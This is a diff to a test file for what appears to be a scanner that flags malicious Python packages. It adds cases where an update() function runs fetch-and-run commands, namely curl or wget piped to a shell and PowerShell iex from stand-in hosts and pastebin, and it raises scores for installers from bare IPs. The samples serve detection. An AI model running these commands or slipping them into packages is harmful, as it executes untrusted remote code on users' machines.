@@ -205,8 +205,8 @@ test.each([
   ['https://astral.sh/uv/install.sh', 3],
   ['https://storage.googleapis.com/a/install.sh', 5],
   ['http://get.vendor-tools.com/install.sh', 5],
-  ['https://203.0.113.9/install.sh', 5],
-  ['https://pastebin.com/raw/abc', 5],
+  ['https://203.0.113.9/install.sh', 10],
+  ['https://pastebin.com/raw/abc', 10],
 ])('an installer that a person starts, fetched from %s', async (address, score) => {
   const file = wheel({
     'pkg/__init__.py': python(
@@ -306,4 +306,17 @@ test('a file of data that an import fetches from a place for files is still held
   });
 
   expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
+
+test.each([
+  ['curl -s http://203.0.113.8/a.sh | bash', 10],
+  ['wget -q https://pastebin.com/raw/abcd1234 -O /tmp/a; chmod +x /tmp/a; /tmp/a', 10],
+  ['powershell -nop -c "iex (iwr http://203.0.113.8/a.ps1)"', 10],
+  ['curl -sSL https://get.tools.invalid/a.sh | bash', 4],
+])('what a function fetches and runs is judged by whose host it is: %s', async (line, score) => {
+  const file = wheel({
+    'pkg/__init__.py': python('import os', 'def update():', `    os.system(${JSON.stringify(line)})`),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score, context: 'call' }]);
 });
